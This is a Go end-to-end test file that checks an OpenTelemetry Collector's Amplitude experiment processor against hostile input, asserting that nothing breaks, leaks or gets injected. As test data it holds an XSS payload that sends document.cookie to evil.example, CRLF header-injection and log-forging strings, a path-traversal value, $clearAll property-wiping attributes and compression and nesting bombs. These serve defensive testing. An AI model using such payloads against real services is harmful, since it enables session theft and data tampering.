// Copyright The otelcol-amplitude Authors
// SPDX-License-Identifier: Apache-2.0

package e2e

import (
	"bytes"
	"fmt"
	"math"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/pdata/plog"

	"github.com/otelcol-amplitude/otelcol-amplitude/e2e/harness"
)

// maxHostileMegabytes is the most memory that the Collector, with a sandbox inside, may use during the test.
const maxHostileMegabytes = 700

const script = `<script>fetch('//evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>`

// hostileRecords are records made to break something. Each starts as a valid exposure.
var hostileRecords = map[string]func(record plog.LogRecord){
	"a megabyte in an attribute":        func(r plog.LogRecord) { r.Attributes().PutStr("note", strings.Repeat("x", 1<<20)) },
	"a megabyte as the user":            func(r plog.LogRecord) { r.Attributes().PutStr("user_id", strings.Repeat("u", 1<<20)) },
	"a megabyte as the flag":            func(r plog.LogRecord) { r.Attributes().PutStr("flag_key", strings.Repeat("f", 1<<20)) },
	"a megabyte as the variant":         func(r plog.LogRecord) { r.Attributes().PutStr("variant", strings.Repeat("v", 1<<20)) },
	"a megabyte as the attribute's key": func(r plog.LogRecord) { r.Attributes().PutStr(strings.Repeat("k", 1<<20), "v") },
	"a megabyte as the body":            func(r plog.LogRecord) { r.Body().SetStr(strings.Repeat("b", 1<<20)) },
	"20,000 attributes": func(r plog.LogRecord) {
		for i := range 20_000 {
			r.Attributes().PutInt(fmt.Sprintf("attribute-%d", i), int64(i))
		}
	},
	"10,000 flags in one record": func(r plog.LogRecord) {
		r.SetEventName("$assignment")
		variants := r.Attributes().PutEmptyMap("variants")
		for i := range 10_000 {
			variants.PutStr(fmt.Sprintf("flag-%05d", i), "treatment")
		}
	},
	"invalid UTF-8 everywhere": func(r plog.LogRecord) {
		bad := "\xff\xfe\xc0\x80\xed\xa0\x80"
		r.Attributes().PutStr("user_id", "user-"+bad)
		r.Attributes().PutStr("flag_key", "flag-"+bad)
		r.Attributes().PutStr("variant", bad)
		r.Attributes().PutStr("key-"+bad, bad)
	},
	"NUL everywhere": func(r plog.LogRecord) {
		r.Attributes().PutStr("user_id", "user\x00id")
		r.Attributes().PutStr("flag_key", "flag\x00key")
		r.Attributes().PutStr("variant", "\x00")
		r.Attributes().PutStr("\x00", "\x00")
	},
	"$clearAll as flag": func(r plog.LogRecord) { r.Attributes().PutStr("flag_key", "$clearAll") },
	"$clearAll as attribute": func(r plog.LogRecord) {
		r.Attributes().PutStr("$clearAll", "-")
		r.Attributes().PutStr("amplitude.user_properties.$clearAll", "-")
		r.Attributes().PutEmptyMap("amplitude.user_properties").PutStr("$clearAll", "-")
	},
	"$clearAll as variant": func(r plog.LogRecord) { r.Attributes().PutStr("variant", "$clearAll") },
	"__proto__ as flag":    func(r plog.LogRecord) { r.Attributes().PutStr("flag_key", "__proto__") },
	"script tags":          func(r plog.LogRecord) { scriptEverywhere(r) },
	"header injection in the user": func(r plog.LogRecord) {
		r.Attributes().PutStr("user_id", "user\r\nX-Injected: yes\r\n\r\nGET / HTTP/1.1")
	},
	"line breaks for the log":   func(r plog.LogRecord) { r.Attributes().PutStr("flag_key", "flag\n2026-01-01T00:00:00Z\terror\tforged") },
	"format verbs":              func(r plog.LogRecord) { r.Attributes().PutStr("flag_key", "%s%n%!d(string)${env:PATH}{{.}}") },
	"path as user":              func(r plog.LogRecord) { r.Attributes().PutStr("user_id", "../../../../etc/passwd") },
	"seconds as nanoseconds":    func(r plog.LogRecord) { r.SetTimestamp(4_200_000_000) },
	"the year 2103":             func(r plog.LogRecord) { r.SetTimestamp(4_200_000_000_000_000_000) },
	"the last nanosecond":       func(r plog.LogRecord) { r.SetTimestamp(math.MaxUint64); r.SetObservedTimestamp(math.MaxUint64) },
	"no time":                   func(r plog.LogRecord) { r.SetTimestamp(0) },
	"no user":                   func(r plog.LogRecord) { r.Attributes().Remove("user_id") },
	"an empty user":             func(r plog.LogRecord) { r.Attributes().PutStr("user_id", "") },
	"a placeholder as the user": func(r plog.LogRecord) { r.Attributes().PutStr("user_id", "anonymous") },
	"a map as the user":         func(r plog.LogRecord) { r.Attributes().PutEmptyMap("user_id").PutStr("a", "b") },
	"no flag":                   func(r plog.LogRecord) { r.Attributes().Remove("flag_key") },
	"bytes as the flag":         func(r plog.LogRecord) { r.Attributes().PutEmptyBytes("flag_key").FromRaw([]byte{0, 255}) },
	"not a number": func(r plog.LogRecord) {
		r.Attributes().PutDouble("variant", math.NaN())
		r.Attributes().PutDouble("inf", math.Inf(1))
	},
	"the smallest integer":       func(r plog.LogRecord) { r.Attributes().PutInt("user_id", math.MinInt64) },
	"an unknown amplitude field": func(r plog.LogRecord) { r.Attributes().PutStr("amplitude.api_key", "stolen") },
	"its own insert_id":          func(r plog.LogRecord) { r.Attributes().PutStr("amplitude.insert_id", strings.Repeat("i", 4096)) },
	"an unknown event":           func(r plog.LogRecord) { r.SetEventName("\x1b[2J" + script) },
}

func scriptEverywhere(r plog.LogRecord) {
	r.Attributes().PutStr("user_id", script)
	r.Attributes().PutStr("flag_key", script)
	r.Attributes().PutStr("variant", "a "+script) // only a tag would be a printed object
	r.Attributes().PutStr(script, script)
}

// TestHostileRecords sends each hostile record between two good ones.
func TestHostileRecords(t *testing.T) {
	collector := harness.Start(t, "testdata/hostile.yaml", harness.Options{})
	neighbors, largest := 0, 0
	send := func(name string, hostile func(plog.LogRecord), post func(plog.Logs)) {
		logs := exposures(neighbors, 3)
		records := logs.ResourceLogs().At(0).ScopeLogs().At(0).LogRecords()
		hostile(records.At(1))
		post(logs)
		neighbors += 3
		resident := collector.Resident(t)
		assert.LessOrEqual(t, resident, maxHostileMegabytes, "megabytes after %s", name)
		largest = max(largest, resident)
	}
	for name, hostile := range hostileRecords {
		send(name, hostile, func(logs plog.Logs) { collector.SendLogs(t, logs) })
	}
	for name, hostile := range deepRecords {
		send(name, hostile, func(logs plog.Logs) {
			body, err := (&plog.JSONMarshaler{}).MarshalLogs(logs)
			require.NoError(t, err)
			_, err = collector.PostLogs("application/json", "", body)
			require.NoError(t, err)
		})
	}
	t.Logf("%d hostile records; resident memory at most %d MB", len(hostileRecords)+len(deepRecords), largest)
	require.Eventually(t, func() bool {
		stored := map[string]bool{}
		for _, event := range collector.Events(t) {
			stored[event.Text("user_id")] = true
		}
		for i := range neighbors {
			if i%3 != 1 && !stored[fmt.Sprintf("user-%06d", i)] {
				return false
			}
		}
		return true
	}, patience, 100*time.Millisecond, "all neighbors of hostile records arrive")
	in := collector.Metric(t, "otelcol_processor_amplitude_experiment_records")
	assert.InDelta(t, neighbors, in, 0, "every record has an outcome")

	// Nobody's properties were cleared, and no header was injected.
	assert.Equal(t, map[string]any{"[Experiment] delivery": "treatment"}, collector.UserProperties(t, "user-000000"))
	collector.Stop(t)
	for _, bad := range []string{"panic:", "goroutine 1 [", "e2e-key", "X-Injected", "\x1b[2J"} {
		assert.NotContains(t, collector.Logs(), bad)
	}
	for line := range strings.Lines(collector.Logs()) {
		assert.False(t, strings.HasPrefix(line, "2026-01-01T00:00:00Z"), "a record wrote a line of the log: %s", line)
	}
}

// deepRecords are nested as deeply as only JSON allows: since v0.165, the core refuses more than 100 levels of
// protobuf.
var deepRecords = map[string]func(record plog.LogRecord){
	"a map 5,000 deep": func(r plog.LogRecord) {
		m := r.Attributes().PutEmptyMap("deep")
		for range 5_000 {
			m = m.PutEmptyMap("d")
		}
		m.PutStr("end", "here")
	},
	"a list 5,000 deep": func(r plog.LogRecord) {
		s := r.Attributes().PutEmptySlice("deep")
		for range 5_000 {
			s = s.AppendEmpty().SetEmptySlice()
		}
	},
	"a map body 5,000 deep": func(r plog.LogRecord) {
		m := r.Body().SetEmptyMap()
		for range 5_000 {
			m = m.PutEmptyMap("variants")
		}
	},
}

// TestHostileRequests posts what is not OTLP, or too much of it; ordinary events still work afterward.
func TestHostileRequests(t *testing.T) {
	collector := harness.Start(t, "testdata/hostile.yaml", harness.Options{})
	proto, err := (&plog.ProtoMarshaler{}).MarshalLogs(exposures(0, 3))
	require.NoError(t, err)
	// Consecutive gzip members are one text.
	quarter := bytes.Repeat(compressed(t, make([]byte, 16<<20)), 16)
	const protobuf, json = "application/x-protobuf", "application/json"
	type hostileRequest struct {
		name, contentType, encoding string
		body                        []byte
	}
	requests := []hostileRequest{
		{"cut short", protobuf, "", proto[:len(proto)-7]},
		{"noise", protobuf, "", bytes.Repeat([]byte{0xde, 0xad, 0xbe, 0xef}, 1000)},
		{"not gzip", protobuf, "gzip", proto},
		{"a quarter of a gigabyte in gzip", protobuf, "gzip", quarter},
		{"unknown encoding", protobuf, "snowflake", proto},
		{"unknown type", "text/html", "", []byte(script)},
		{"not JSON", json, "", []byte(`{"resourceLogs":[{`)},
		{"deep JSON", json, "", []byte(`{"resourceLogs":` + strings.Repeat("[", 200_000))},
		{"wrong types", json, "", []byte(`{"resourceLogs":[{"scopeLogs":[{"logRecords":[{"timeUnixNano":{"a":[]}}]}]}]}`)},
		{"more than a request may hold", protobuf, "", make([]byte, 32<<20)},
	}
	for name, nest := range deepRecords {
		logs := exposures(0, 1)
		nest(logs.ResourceLogs().At(0).ScopeLogs().At(0).LogRecords().At(0))
		body, err := (&plog.ProtoMarshaler{}).MarshalLogs(logs)
		require.NoError(t, err)
		requests = append(requests, hostileRequest{name, protobuf, "", body})
	}
	for _, tc := range requests {
		t.Run(tc.name, func(t *testing.T) {
			status, err := collector.PostLogs(tc.contentType, tc.encoding, tc.body)
			if err != nil && status == 0 {
				t.Log("the connection was closed: ", err)
			} else {
				assert.Equal(t, 4, status/100, "an error of the sender, %d", status)
			}
			assert.LessOrEqual(t, collector.Resident(t), maxHostileMegabytes)
		})
	}
	collector.SendLogs(t, exposures(0, 3))
	assert.Len(t, collector.WaitForEvents(t, 3), 3)
	collector.Stop(t)
	assert.NotContains(t, collector.Logs(), "panic:")
}

// TestHostileTextOnThePages checks the sandbox's page data and zpages after script tags were sent.
func TestHostileTextOnThePages(t *testing.T) {
	collector := harness.Start(t, "testdata/hostile.yaml", harness.Options{})
	logs := exposures(0, 3)
	scriptEverywhere(logs.ResourceLogs().At(0).ScopeLogs().At(0).LogRecords().At(1))
	collector.SendLogs(t, logs)
	collector.WaitForEvents(t, 3)
	for _, path := range []string{
		collector.Sandbox + "/", collector.Sandbox + "/_sandbox/events", collector.Sandbox + "/_sandbox/users",
		collector.Sandbox + "/_sandbox/experiments", collector.Sandbox + "/_sandbox/requests", collector.OTLPGRPC + "/debug/servicez",
		collector.OTLPGRPC + "/debug/pipelinez", collector.OTLPGRPC + "/debug/extensionz",
	} {
		header, body := get(t, "http://"+path)
		if strings.HasPrefix(header.Get("Content-Type"), "text/html") {
			assert.NotContains(t, body, script, path)
			continue
		}
		assert.True(t, strings.HasPrefix(header.Get("Content-Type"), "application/json"), "%s is %s", path, header.Get("Content-Type"))
		if strings.HasPrefix(path, collector.Sandbox) {
			assert.Equal(t, "nosniff", header.Get("X-Content-Type-Options"), path)
		}
	}
}

// get reads a whole page.
func get(t *testing.T, url string) (http.Header, string) {
	t.Helper()
	response, err := http.Get(url)
	require.NoError(t, err)
	defer func() { _ = response.Body.Close() }()
	var body bytes.Buffer
	_, err = body.ReadFrom(response.Body)
	require.NoError(t, err)
	require.Equal(t, http.StatusOK, response.StatusCode, url)
	return response.Header, body.String()
}

// TestOnlyCollectorsMayClear sends $clearAll in a raw record, in one that claims to be shaped, and in one with another
// name. None of them affects user properties other than its flag's, unless the processor accepts shaped events.
func TestOnlyCollectorsMayClear(t *testing.T) {
	const victim = "user-000000"
	claim := func(flag string) plog.Logs {
		logs := exposures(0, 1)
		attributes := logs.ResourceLogs().At(0).ScopeLogs().At(0).LogRecords().At(0).Attributes()
		attributes.PutStr("flag_key", flag)
		attributes.PutStr("amplitude.user_properties.$clearAll", "-")
		return logs
	}
	forge := func(flag string) plog.Logs {
		logs := claim(flag)
		r := logs.ResourceLogs().At(0).ScopeLogs().At(0).LogRecords().At(0)
		r.Attributes().PutStr("amplitude.user_id", victim)
		r.Attributes().PutStr("amplitude.insert_id", "an id of its own")
		r.Attributes().PutStr("[Experiment] Flag Key", flag)
		r.Attributes().Remove("user_id")
		return logs
	}
	own := func(event string) plog.Logs {
		logs := claim("")
		r := logs.ResourceLogs().At(0).ScopeLogs().At(0).LogRecords().At(0)
		r.SetEventName(event)
		r.Attributes().PutStr("amplitude.user_id", victim)
		r.Attributes().PutStr("amplitude.user_properties.$set.plan", "forged")
		return logs
	}
	collector := harness.Start(t, "testdata/hostile.yaml", harness.Options{})
	for i, logs := range []plog.Logs{exposures(0, 1), claim("raw"), forge("shaped"), own("[Experiment] Custom")} {
		collector.SendLogs(t, logs)
		collector.WaitForEvents(t, i+1)
	}
	// A $identify is not an event; the next event of the same user comes after it.
	collector.SendLogs(t, own("$identify"))
	collector.SendLogs(t, claim("last"))
	collector.WaitForEvents(t, 5)
	assert.Equal(t, map[string]any{
		"[Experiment] delivery": "treatment", "[Experiment] raw": "treatment", "[Experiment] shaped": "treatment", "[Experiment] last": "treatment",
	}, collector.UserProperties(t, victim))

	gateway := harness.Start(t, "testdata/hostile.yaml", harness.Options{Sets: []string{"processors::amplitude_experiment::accept_shaped: true"}})
	gateway.SendLogs(t, exposures(0, 1))
	gateway.WaitForEvents(t, 1)
	gateway.SendLogs(t, forge("shaped"))
	gateway.WaitForEvents(t, 2)
	assert.NotContains(t, gateway.UserProperties(t, victim), "[Experiment] delivery", "a gateway believes what reaches it")
}
